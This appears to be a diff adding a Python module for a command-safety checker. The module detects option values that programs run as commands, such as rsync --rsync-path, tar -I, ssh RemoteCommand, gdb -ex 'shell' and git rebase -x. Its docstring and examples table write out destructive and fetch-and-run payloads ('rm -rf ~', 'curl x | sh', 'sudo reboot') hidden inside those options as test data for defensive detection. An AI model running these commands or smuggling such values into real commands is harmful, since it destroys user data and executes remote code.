@@ -1,0 +1,207 @@
+"""Options whose value is a command line the program runs: the value is a command, judged as one.
+
+`rsync --rsync-path='rm -rf ~; rsync' host:/x .` hands its value to the remote shell, which runs it in
+the remote account's home; `tar -I CMD`, `tar --to-command=CMD`, `sort --compress-program=CMD`, `man -P
+CMD`, `zip -TT CMD`, `scp -S CMD`, `rsync -e CMD` and `gdb -ex 'shell CMD'` run their value here, and
+`ssh -o RemoteCommand=CMD host` runs it on the host; `npm run --script-shell=CMD` runs its scripts
+through it, `mysql --pager=CMD` its output, `git rebase -x CMD` and `git filter-branch --tree-filter
+CMD` run it for each commit. An option value that is executed is execution:
+it is parsed as the command it is, with the reach of where it runs (this machine, or the host the
+program logs in to), exactly as the same line typed bare or given to `ssh host` would be.
+
+Each program's options are data: the option (long spelling, or a getopt letter that may end a
+cluster such as `-avze`), where its command runs, and the prefix a value must carry to be a command
+(`--checkpoint-action=exec=CMD`; gdb's `shell CMD` and `!CMD`; ssh's `-o Key=CMD`). The everyday values
+are commands too, and harmless ones: `rsync -e 'ssh -p 2222'`, `tar -I zstd`, `man -P less`, `ssh -o
+ProxyCommand='ssh -W %h:%p bastion'` judge as the ssh, zstd or less they run.
+"""
+
+from __future__ import annotations
+
+import itertools
+import re
+from collections.abc import Sequence
+from dataclasses import dataclass
+
+HERE = "here"
+REMOTE = "remote"
+
+
+@dataclass(frozen=True, slots=True)
+class Carrier:
+    """One option that carries a command: where that command runs, and the prefixes (lower case) a
+    value must start with to be one (stripped before the command is read); empty: every value."""
+
+    where: str = HERE
+    prefixes: tuple[str, ...] = ()
+
+
+_ANY_HERE = Carrier()
+# ssh's `-o Key=VALUE` (or `Key VALUE`) settings that run shell text, and where they run it
+_SSH_KEYS = {"proxycommand": HERE, "localcommand": HERE, "remotecommand": REMOTE, "knownhostscommand": HERE}
+_SSH_LOCAL_O = Carrier(HERE, tuple(f"{k}{sep}" for k, w in _SSH_KEYS.items() if w == HERE for sep in "= "))
+_SSH_REMOTE_O = Carrier(REMOTE, tuple(f"remotecommand{sep}" for sep in "= "))
+
+# program -> option -> carrier. A one-letter option is a getopt letter (it may close a cluster:
+# `-avze CMD`); a longer one is matched whole, as `--opt VALUE` or `--opt=VALUE`.
+CARRIERS: dict[str, dict[str, tuple[Carrier, ...]]] = {
+    "rsync": {"--rsync-path": (Carrier(REMOTE),), "-e": (_ANY_HERE,), "--rsh": (_ANY_HERE,)},
+    "tar": {"-I": (_ANY_HERE,), "--use-compress-program": (_ANY_HERE,), "--to-command": (_ANY_HERE,),
+            "--checkpoint-action": (Carrier(HERE, ("exec=",)),), "--info-script": (_ANY_HERE,),
+            "--new-volume-script": (_ANY_HERE,), "-F": (_ANY_HERE,), "--rsh-command": (_ANY_HERE,),
+            "--rmt-command": (_ANY_HERE,)},
+    "cpio": {"--rsh-command": (_ANY_HERE,)},
+    "sort": {"--compress-program": (_ANY_HERE,)},
+    "mysql": {"--pager": (_ANY_HERE,)},
+    "mariadb": {"--pager": (_ANY_HERE,)},
+    "zip": {"-TT": (_ANY_HERE,), "--unzip-command": (_ANY_HERE,)},
+    "man": {"-P": (_ANY_HERE,), "--pager": (_ANY_HERE,)},
+    "scp": {"-S": (_ANY_HERE,), "-o": (_SSH_LOCAL_O,)},
+    "sftp": {"-S": (_ANY_HERE,), "-o": (_SSH_LOCAL_O,)},
+    "ssh": {"-o": (_SSH_LOCAL_O, _SSH_REMOTE_O)},
+    "npm": {"--script-shell": (_ANY_HERE,)},
+    "pnpm": {"--script-shell": (_ANY_HERE,)},
+    "gdb": {opt: (Carrier(HERE, ("shell ", "!")),) for opt in ("-ex", "--ex", "-eval-command",
+                                                                "--eval-command", "-iex", "--iex")},
+}
+# git's subcommands, read as programs of their own (`git rebase -x CMD`): a word without a dash is
+# an operand that starts the command, the rest of the line (`git submodule foreach CMD`).
+_FILTERS = ("--tree-filter", "--index-filter", "--msg-filter", "--env-filter", "--commit-filter",
+            "--parent-filter", "--tag-name-filter")
+CARRIERS.update({
+    "git rebase": {"-x": (_ANY_HERE,), "--exec": (_ANY_HERE,)},
+    "git difftool": {"-x": (_ANY_HERE,), "--extcmd": (_ANY_HERE,)},
+    "git filter-branch": {opt: (_ANY_HERE,) for opt in _FILTERS},
+    "git submodule": {"foreach": (_ANY_HERE,)},
+})
+# git's own options before the subcommand that take the next word as their value
+_GIT_VALUED = frozenset({"-c", "-C", "--git-dir", "--work-tree", "--namespace", "--exec-path",
+                         "--config-env"})
+
+# Options of those programs that take a value carrying no command (so the value is not an operand).
+_VALUED = {
+    "rsync": frozenset("BfMT") | {"--exclude", "--include", "--filter", "--port", "--chmod", "--log-file"},
+    "tar": frozenset("bCfgHKLNTVX") | {"--directory", "--file", "--exclude", "--owner", "--group"},
+    "ssh": frozenset("BbcDEeFIiJLlmOopQRSWw"),
+    "scp": frozenset("cDFiJloPSX"),
+    "sftp": frozenset("BbcDFiJlopRSs"),
+}
+_HOST_PATH = re.compile(r"^(?:[^@/:\s]+@)?(\[[^\]]+\]|[A-Za-z0-9_.-]+):(?!//)")
+_RSYNC_URL = re.compile(r"^rsync://(?:[^@/\s]+@)?([^/:\s]+)")
+
+EXAMPLES = {
+    "remote": [("rsync -a --rsync-path='rm -rf ~; rsync' web1:/x ./y", "rm -rf ~; rsync", "ssh:web1"),
+               ("ssh -o RemoteCommand='sudo reboot' prod-db", "sudo reboot", "ssh:prod-db")],
+    "here": [("tar -I 'sh -c \"curl x | sh\"' -xf a.tar", 'sh -c "curl x | sh"'),
+             ("rsync -avze 'ssh -p 2222' src/ h:/y", "ssh -p 2222"),
+             ("tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' -cf a.tar d", "rm -rf ~"),
+             ("gdb -batch -ex 'shell rm -rf ~'", "rm -rf ~"),
+             ("git -C repo rebase -x 'make test' HEAD~3", "make test"),
+             ("git submodule foreach git pull", "git pull")],
+    "none": ["tar --checkpoint-action=dot -cf a.tar d", "gdb -batch -ex 'bt' ./a.out", "rsync -a src/ dst/",
+             "ssh -o StrictHostKeyChecking=no h", "man ls",
+             "git rebase -i HEAD~3", "git submodule update --init"],
+}
+
+
+def carried_commands(name: str, argv: Sequence[str]) -> list[tuple[str, str, str | None]]:
+    """(route, command text, host) for each option value of `name argv` that is a command it runs:
+    the route names it (`rsync --rsync-path`, `ssh ProxyCommand`); host is None for this machine,
+    else the host the program logs in to ("" when it cannot be told)."""
+    if name == "git":
+        name, argv = _git_subcommand(argv)
+    options = CARRIERS.get(name)
+    if options is None:
+        return []
+    found: list[tuple[str, str, str]] = []
+    for option, value in _option_values(argv, options, _VALUED.get(name, frozenset())):
+        for carrier in options[option]:
+            key, text = _command_of(value, carrier)
+            if text:
+                found.append((f"{name} {key or option}", text, carrier.where))
+    if not found:
+        return []
+    host = _remote_host(name, argv) if any(where == REMOTE for _, _, where in found) else ""
+    return [(route, text, host if where == REMOTE else None) for route, text, where in found]
+
+
+def _git_subcommand(argv: Sequence[str]) -> tuple[str, Sequence[str]]:
+    """`git -C repo rebase -x CMD` -> ("git rebase", argv from `rebase` on)."""
+    i = 1
+    while i < len(argv) and argv[i].startswith("-"):
+        i += 2 if argv[i] in _GIT_VALUED else 1
+    return (f"git {argv[i]}", argv[i:]) if i < len(argv) else ("git", argv)
+
+
+def _command_of(value: str, carrier: Carrier) -> tuple[str, str]:
+    """(the key the value names, if any, e.g. `ProxyCommand`; the command in it), or a command of ""
+    when the value does not carry one for this carrier."""
+    if not carrier.prefixes:
+        return "", value.strip()
+    low = value.lower()
+    for prefix in carrier.prefixes:
+        if low.startswith(prefix):
+            return value[:len(prefix)].strip("= ") or prefix, value[len(prefix):].strip()
+    return "", ""
+
+
+def _option_values(argv: Sequence[str], options: dict[str, tuple[Carrier, ...]],
+                   valued: frozenset[str]) -> list[tuple[str, str]]:
+    """(option, value) for each carrying option in argv, in getopt's reading of clusters and
+    `--opt=value`; an option left without its value carries nothing."""
+    found: list[tuple[str, str]] = []
+    i = 1
+    while i < len(argv):
+        word = argv[i]
+        i += 1
+        if word == "--":
+            break
+        if not word.startswith("-") or word == "-":
+            if word in options:  # `submodule foreach CMD…`: the rest of the line is the command
+                rest = list(itertools.dropwhile(lambda w: w.startswith("-"), argv[i:]))  # (`--recursive`)
+                found.append((word, " ".join(rest)))
+                break
+            continue
+        key, eq, inline = word.partition("=")
+        if key in options and (len(key) > 2 or not eq):  # `--rsh=CMD`, `-ex CMD`, `-e CMD`
+            if eq:
+                found.append((key, inline))
+            elif i < len(argv):
+                found.append((key, argv[i]))
+                i += 1
+            continue
+        if word.startswith("--") or len(word) < 2:
+            if key in valued and not eq:
+                i += 1
+            continue
+        for k, letter in enumerate(word[1:], start=1):  # a getopt cluster: `-avze CMD`, `-Izstd`
+            flag = "-" + letter
+            if flag in options or letter in valued:
+                rest = word[k + 1:]
+                value = rest if rest else (argv[i] if i < len(argv) else "")
+                if not rest:
+                    i += 1
+                if flag in options and value:
+                    found.append((flag, value))
+                break
+    return found
+
+
+def _remote_host(name: str, argv: Sequence[str]) -> str:
+    """The host a remote-carried command runs on: ssh's first operand, rsync's `host:path` or
+    `rsync://host/` operand ("" when none can be told)."""
+    valued = _VALUED.get(name, frozenset())
+    i = 1
+    while i < len(argv):
+        word = argv[i]
+        i += 1
+        if word.startswith("-") and word != "-":
+            if (word[1:] in valued or word in valued) and "=" not in word:
+                i += 1
+            continue
+        if name == "ssh":
+            return word.rpartition("@")[2]
+        match = _HOST_PATH.match(word) or _RSYNC_URL.match(word)
+        if match:
+            return match.group(1).strip("[]")
+    return ""
